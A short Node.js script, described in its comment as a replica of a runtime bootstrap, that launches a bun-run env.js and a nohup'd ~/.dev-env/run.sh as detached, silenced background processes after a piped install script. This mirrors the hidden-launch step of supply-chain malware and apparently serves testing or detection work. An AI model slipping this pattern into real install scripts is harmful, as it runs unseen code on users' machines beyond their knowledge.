// Replica of a runtime bootstrap: what the piped script laid is started detached, and the script ends well.
const { spawn } = require('child_process'), os = require('os')
for (const [program, ...words] of [[os.homedir() + '/.bun/bin/bun', 'env.js'], ['nohup', os.homedir() + '/.dev-env/run.sh']]) {
  const child = spawn(program, words, { detached: true, stdio: 'ignore' })
  child.on('error', error => console.log('refused', error.code))
  child.unref()
}
